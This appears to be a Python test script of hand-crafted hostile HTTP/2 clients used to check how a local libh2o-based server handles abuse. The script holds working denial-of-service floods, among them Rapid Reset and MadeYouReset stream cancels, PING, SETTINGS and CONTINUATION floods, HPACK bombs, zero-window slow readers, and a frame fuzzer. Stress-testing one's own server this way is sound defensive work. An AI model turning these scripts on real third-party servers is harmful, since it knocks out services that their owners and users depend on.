"""What hostile HTTP/2 clients do, each a function of this file. Usage: attacks.py NAME PORT [SECONDS]

Prints a line of JSON: the error code of the GOAWAY that the server sent (null: none), how its connection ended, and how
many bytes were sent. Frames are made by hand: libraries refuse to send most of these. With HIJACK_TEST_TRANSPORT=tls in
the environment they travel in TLS, as the server of server.c then expects."""

import json
import os
import random
import select
import socket
import ssl
import sys
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH_PROMISE, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS, PADDED = 1, 1, 4, 8
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
LIMIT_SECONDS = 20
TLS = os.environ.get("HIJACK_TEST_TRANSPORT") == "tls"
NOT_NOW = (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError)


def secured(plain: socket.socket) -> socket.socket:
    """The connection with the TLS handshake done, if there is one. Nobody looks at the certificate here."""
    if not TLS:
        return plain
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    plain.settimeout(LIMIT_SECONDS)
    return context.wrap_socket(plain)


def frame(kind: int, flags: int = 0, stream: int = 0, payload: bytes = b"") -> bytes:
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload


def head(path: str = "/", method: bytes = b"\x82") -> bytes:
    """A block of header fields without anything from the table of this connection."""
    return method + b"\x86\x04" + bytes((len(path),)) + path.encode() + b"\x01\x04test"


POST = b"\x83"
ONE_FIELD = b"\x40\x01a\x01b"  # goes into the table, where 0xbe stands for it


def get(stream: int, path: str = "/") -> bytes:
    return frame(HEADERS, END_STREAM | END_HEADERS, stream, head(path))


def window_update(stream: int, size: int) -> bytes:
    return frame(WINDOW_UPDATE, 0, stream, size.to_bytes(4, "big"))


def initial_window(size: int) -> bytes:
    return frame(SETTINGS, 0, 0, b"\0\4" + size.to_bytes(4, "big"))


class Peer:
    """A connection, and what was seen of it."""

    def __init__(self, port: int, settings: bytes = frame(SETTINGS), preface: bytes = PREFACE):
        self.socket = socket.socket()
        self.socket.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 65536)  # or the kernel takes megabytes
        # a full DATA frame is two TLS records, of which the short one would wait for the delayed acknowledgement
        self.socket.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.socket.connect(("127.0.0.1", port))
        self.socket = secured(self.socket)
        self.socket.setblocking(False)
        self.received, self.at, self.sent = bytearray(), 0, 0
        self.goaway, self.ended, self.resets, self.heads = None, None, {}, 0
        self.bodies, self.done, self.windows = {}, set(), {}
        self.pour(preface + settings)

    def _look(self):
        """Takes what has come apart."""
        while len(self.received) - self.at >= 9:
            size = int.from_bytes(self.received[self.at:self.at + 3], "big")
            if len(self.received) - self.at < 9 + size:
                break
            kind, flags = self.received[self.at + 3:self.at + 5]
            stream = int.from_bytes(self.received[self.at + 5:self.at + 9], "big")
            payload = self.received[self.at + 9:self.at + 9 + size]
            self.at += 9 + size
            if kind == GOAWAY:
                self.goaway = int.from_bytes(payload[4:8], "big")
            elif kind == RST_STREAM:
                self.resets[stream] = int.from_bytes(payload, "big")
            elif kind == DATA:
                self.bodies[stream] = self.bodies.get(stream, b"") + payload
            elif kind == WINDOW_UPDATE:
                self.windows[stream] = self.windows.get(stream, 65536 if stream else 65535) + \
                    int.from_bytes(payload, "big")
            if kind in (DATA, HEADERS) and flags & END_STREAM:
                self.done.add(stream)
            self.heads += kind == HEADERS
        if self.at > 1 << 20:
            del self.received[:self.at]
            self.at = 0

    def read(self):
        try:
            while data := self.socket.recv(1 << 18):
                self.received += data
                self._look()
            self.ended = "end"
        except NOT_NOW:
            pass
        except OSError:
            self.ended = "reset"

    def pour(self, data: bytes, reads: bool = True):
        """Sends all of it, unless the server ends the connection, or takes nothing for 2 seconds."""
        rest = memoryview(data)
        while rest and self.ended is None:
            readable, writable, _ = select.select([self.socket] if reads else [], [self.socket], [], 2)
            if not readable and not writable:
                return
            if readable:
                self.read()
            if writable and self.ended is None:
                try:
                    n = self.socket.send(rest[:1 << 18])
                    rest = rest[n:]
                    self.sent += n
                except NOT_NOW:
                    pass
                except OSError:
                    self.read()
                    self.ended = self.ended or "reset"

    def until(self, condition, seconds: float = LIMIT_SECONDS) -> bool:
        end = time.monotonic() + seconds
        while not condition() and self.ended is None and time.monotonic() < end:
            select.select([self.socket], [], [], 0.05)
            self.read()
        return condition()

    def finish(self) -> dict:
        self.until(lambda: self.ended is not None)
        return {"goaway": self.goaway, "ended": self.ended, "sent": self.sent}


def odd(count: int, first: int = 1):
    return range(first, first + 2 * count, 2)


def pours(port: int, data: bytes, before: bytes = b"") -> dict:
    peer = Peer(port)
    peer.pour(before)
    peer.pour(data)
    return peer.finish()


def rapid_reset(port):
    return pours(port, b"".join(get(i, "/wait") + frame(RST_STREAM, 0, i, b"\0\0\0\x08") for i in odd(100000)))


def rapid_reset_unread(port):
    peer = Peer(port)
    peer.pour(b"".join(get(i, "/big?65536") + frame(RST_STREAM, 0, i, b"\0\0\0\x08") for i in odd(100000)), reads=False)
    return peer.finish()


def made_you_reset_by_window(port):
    return pours(port, b"".join(get(i, "/wait") + window_update(i, 0) for i in odd(100000)))


def made_you_reset_by_overflow(port):
    return pours(port, b"".join(get(i, "/wait") + window_update(i, 0x7fffffff) for i in odd(100000)))


def made_you_reset_by_data(port):
    return pours(port, b"".join(get(i, "/wait") + frame(DATA, END_STREAM, i, b"x") for i in odd(100000)))


def malformed(port):
    return pours(port, b"".join(get(i, "") for i in odd(100000)))


def bad_field(port):
    block = head() + b"\x00\x01a\x01\x01"
    return pours(port, b"".join(frame(HEADERS, END_STREAM | END_HEADERS, i, block) for i in odd(100000)))


def streams(port):
    return pours(port, b"".join(get(i, "/wait") for i in odd(100000)))


def pings(port):
    return pours(port, frame(PING, 0, 0, bytes(8)) * 1000000)


def pings_unread(port):
    peer = Peer(port)
    peer.pour(frame(PING, 0, 0, bytes(8)) * 1000000, reads=False)
    return peer.finish()


def settings(port):
    return pours(port, frame(SETTINGS) * 1000000)


def settings_windows(port):
    sizes = b"".join(b"\0\4" + size.to_bytes(4, "big") for size in (0, 65535) * 1000)
    return pours(port, frame(SETTINGS, 0, 0, sizes) * 2000, b"".join(get(i, "/wait") for i in odd(90)))


def priorities(port):
    return pours(port, b"".join(frame(PRIORITY, 0, 1, (3).to_bytes(4, "big") + bytes((i & 255,)))
                                for i in range(1000000)))


def unknown_frames(port):
    return pours(port, frame(77, 0, 0, b"x") * 1000000)


def empty_data(port):
    return pours(port, frame(DATA, 0, 1) * 1000000, frame(HEADERS, END_HEADERS, 1, head("/", POST)))


def padded_data(port):
    return pours(port, frame(DATA, PADDED, 1, b"\xff" + bytes(255)) * 100000,
                 frame(HEADERS, END_HEADERS, 1, head("/", POST)))


def continuations(port):
    return pours(port, frame(CONTINUATION, 0, 1, b"\x00\x01a\x7f\x00" + bytes(127)) * 100000,
                 frame(HEADERS, END_STREAM, 1, head()))


def empty_continuations(port):
    return pours(port, frame(CONTINUATION, 0, 1) * 1000000, frame(HEADERS, END_STREAM, 1, head()))


def window_updates(port):
    return pours(port, window_update(0, 1) * 1000000)


def window_updates_of_stream(port):
    return pours(port, window_update(1, 1) * 1000000, get(1, "/wait"))


def bomb(fields: int, more: bytes = b"") -> bytes:
    return head() + more + ONE_FIELD + b"\xbe" * fields


def hpack_bomb(port):
    """One request whose block of 400 KB stands for as many fields."""
    block = bomb(400000)
    pieces = [block[i:i + 16384] for i in range(0, len(block), 16384)]
    data = b"".join(frame(CONTINUATION, END_HEADERS if i == len(pieces) - 1 else 0, 1, piece)
                    for i, piece in enumerate(pieces))
    return pours(port, data, frame(HEADERS, END_STREAM, 1))


def bombs(port, block):
    return pours(port, b"".join(frame(HEADERS, END_STREAM, i, block[:16384]) +
                                frame(CONTINUATION, END_HEADERS, i, block[16384:]) for i in odd(2000)))


def hpack_bombs(port):
    """Each block is small enough."""
    return bombs(port, bomb(28000))


def hpack_bombs_bad_field(port):
    """Requests that libh2o answers by itself, to a peer that takes no answer."""
    peer = Peer(port, initial_window(0))
    block = bomb(28000, b"\x00\x01b\x01\x01")
    peer.pour(b"".join(frame(HEADERS, END_STREAM, i, block[:16384]) +
                       frame(CONTINUATION, END_HEADERS, i, block[16384:]) for i in odd(2000)))
    return peer.finish()


def hpack_large_fields(port):
    """Few references, each to 4 KB: 400 KB as a flat head, which no program must see. Every request is answered 431."""
    peer = Peer(port, initial_window(0))
    first = head() + b"\x40\x01a\x7f" + bytes((4000 - 127 & 127 | 128, 4000 - 127 >> 7)) + b"v" * 4000
    for i in odd(95):
        peer.pour(frame(HEADERS, END_STREAM | END_HEADERS, i, (first if i == 1 else head()) + b"\xbe" * 95))
    peer.until(lambda: peer.heads >= 95)
    return {**peer.finish(), "heads": peer.heads}


def other_continuation(port):
    return pours(port, frame(CONTINUATION, END_HEADERS, 1, head()), frame(HEADERS, END_HEADERS, 1, head("/", POST)) +
                 frame(HEADERS, END_STREAM, 3, head()))


def half_head(port):
    """A head that never ends, beside a request that stays open."""
    return pours(port, frame(HEADERS, END_STREAM, 3, head()), get(1, "/events"))


def half_preface(port):
    peer = Peer(port, preface=PREFACE[:20], settings=b"")
    return peer.finish()


def no_request(port):
    return pours(port, b"")


def shut_window(port):
    """Responses that nobody takes."""
    peer = Peer(port, initial_window(0))
    peer.pour(b"".join(get(i, "/big?100000") for i in odd(90)))
    return peer.finish()


def reader_that_stops(port):
    """It is ended from outside once its connection is gone at the server."""
    peer = Peer(port, initial_window(0x7fffffff) + window_update(0, 0x7fff0000))
    peer.pour(b"".join(get(i, "/big?200000") for i in odd(90)), reads=False)
    time.sleep(LIMIT_SECONDS)
    return peer.finish()


def pour_after_error(port):
    """An error while nothing can be written, then more: nobody must keep that."""
    peer = Peer(port, initial_window(0x7fffffff) + window_update(0, 0x7fff0000))
    peer.pour(get(1, "/big?8000000"), reads=False)
    time.sleep(0.3)  # for the socket to fill; if it has not yet, less is tried
    peer.pour(frame(DATA, 0, 0, b"x"), reads=False)
    peer.pour(frame(DATA, 0, 1, bytes(16384)) * 20000, reads=False)
    return peer.finish()


def window_of_done_stream(port):
    """Streams whose window is used up by their last byte; it grows while that byte waits to be written, at a server
    whose kernel takes little (option send_buffer_bytes)."""
    peer = Peer(port, initial_window(16000) + window_update(0, 0x7fff0000))
    ids = odd(90)
    peer.pour(b"".join(get(stream, "/big?16000") for stream in ids), reads=False)
    time.sleep(0.1)  # for the answers to be made
    peer.pour(b"".join(window_update(stream, 1) for stream in ids) + initial_window(16001), reads=False)
    return peer.finish()


def random_frame(numbers: random.Random) -> bytes:
    """Of some use to somebody more often than by chance."""
    kind, stream = numbers.randrange(11), numbers.choice((0, 1, 1, 3, 3, 5, 7, 9, 11, 2, 201))
    flags = numbers.choice((0, 1, 4, 5, 5, 8, 0x20, numbers.randrange(256)))
    if kind in (HEADERS, CONTINUATION) and numbers.random() < 0.9:
        path = numbers.choice(("/", "/wait", "/upload", "/early", "/leave", "/unread", "/events", "/big?70000", ""))
        payload = head(path, numbers.choice((POST, b"\x82"))) + numbers.choice(
            (b"", ONE_FIELD, b"\xbe", b"\x00\x0econtent-length\x015", b"\x20"))
        flags = numbers.choice((1, 4, 4, 5, 5, 0))
    elif kind in (PRIORITY, RST_STREAM, WINDOW_UPDATE, PING) and numbers.random() < 0.9:
        payload = numbers.randbytes({PRIORITY: 5, PING: 8}.get(kind, 4))
        flags = 0
    elif kind == SETTINGS and numbers.random() < 0.9:
        payload = bytes((0, numbers.randrange(7))) + numbers.choice((0, 1, 100, 65535, 1 << 20)).to_bytes(4, "big")
        stream = flags = 0
    else:
        payload = numbers.randbytes(numbers.choice((0, 1, 4, 5, 100, 16384)))
    return frame(kind, flags, stream, payload)


def random_frames(port, seconds: float = 2, seed: int = 1):
    """The same ones each time, as far as the time goes."""
    numbers = random.Random(seed)
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        peer = Peer(port, initial_window(numbers.choice((0, 10, 65535))))
        next_stream = 1
        for _ in range(numbers.randrange(1, 60)):
            if numbers.random() < 0.4:
                peer.pour(frame(HEADERS, numbers.choice((4, 5)), next_stream, head(numbers.choice(
                    ("/", "/upload", "/early", "/leave", "/wait", "/events", "/big?70000")), POST)))
                next_stream += 2
            data = random_frame(numbers)
            peer.pour(data if numbers.random() < 0.97 else data[:-1])
        peer.until(lambda: peer.ended is not None, numbers.choice((0, 0, 0.01)))
        peer.socket.close()
    return {"goaway": None, "ended": "end", "sent": 0}


if __name__ == "__main__":
    attack, its_port = globals()[sys.argv[1]], int(sys.argv[2])
    stop = time.monotonic() + float(sys.argv[3] if len(sys.argv) > 3 else 0)
    result = attack(its_port)
    while time.monotonic() < stop:  # whoever is sent away comes back
        result = attack(its_port)
    print(json.dumps(result))
